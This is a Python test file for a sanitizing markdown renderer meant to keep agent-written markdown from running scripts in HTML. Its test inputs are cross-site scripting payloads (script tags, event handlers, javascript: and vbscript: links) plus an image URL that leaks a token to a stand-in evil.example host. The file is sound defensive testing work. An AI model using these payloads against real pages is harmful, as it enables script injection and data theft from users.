"""runs.markdown: agent markdown becomes HTML that cannot run anything."""

from __future__ import annotations

import pytest

from runs.markdown import render_markdown, sanitize


def test_it_renders_the_usual_markdown() -> None:
    html = render_markdown("## Demo answer\n\n> quoted\n\n- one\n- **two**\n\n`x` and ~~old~~\n")
    assert "<h2>Demo answer</h2>" in html
    assert "<blockquote>" in html
    assert "<li><strong>two</strong></li>" in html
    assert "<code>x</code>" in html
    assert "<s>old</s>" in html


def test_it_keeps_the_language_of_fenced_code() -> None:
    html = render_markdown('```python\nprint("<b>hi</b>")\n```\n')
    assert '<pre><code class="language-python">' in html
    assert "&lt;b&gt;hi&lt;/b&gt;" in html


@pytest.mark.parametrize(
    "source",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '<a href="javascript:alert(1)">x</a>',
        "<iframe src=https://evil.example></iframe>",
        '<svg onload="alert(1)"></svg>',
        "<style>body{display:none}</style>",
        '<div onclick="alert(1)">x</div>',
    ],
)
def test_raw_html_comes_out_as_text(source: str) -> None:
    html = render_markdown(source)
    assert "<script" not in html
    assert "<img" not in html
    assert "<iframe" not in html
    assert "<svg" not in html
    assert "<style" not in html
    assert "<div" not in html
    assert "&lt;" in html


def test_javascript_links_are_not_links() -> None:
    html = render_markdown("[click](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>)")
    assert "href" not in html


def test_safe_links_get_rel_noopener() -> None:
    html = render_markdown('[docs](https://example.com/a?b=1 "Docs")')
    assert 'href="https://example.com/a?b=1"' in html
    assert 'rel="noopener noreferrer nofollow"' in html
    assert 'title="Docs"' in html


def test_images_become_links_so_the_browser_fetches_nothing() -> None:
    html = render_markdown("![secret](https://evil.example/leak?q=token)")
    assert "<img" not in html
    assert '<a class="md-image" href="https://evil.example/leak?q=token"' in html
    assert "image: secret" in html


def test_tables_align_with_classes_not_inline_styles() -> None:
    html = render_markdown("|a|b|\n|:-|-:|\n|1|2|\n")
    assert 'class="align-left"' in html
    assert 'class="align-right"' in html
    assert "style=" not in html


def test_the_sanitizer_strips_what_markdown_would_never_emit() -> None:
    dirty = (
        '<p onclick="x()" class="evil">hi</p><code class="language-py evil">c</code>'
        '<script>alert(1)</script><a href="vbscript:x" class="other">v</a><td style="color:red">t</td>'
    )
    clean = sanitize(dirty)
    assert "onclick" not in clean
    assert 'class="evil"' not in clean
    assert "language-py evil" not in clean
    assert "alert" not in clean
    assert "vbscript" not in clean
    assert 'class="other"' not in clean
    assert "style" not in clean


def test_empty_text_renders_nothing() -> None:
    assert render_markdown("") == ""
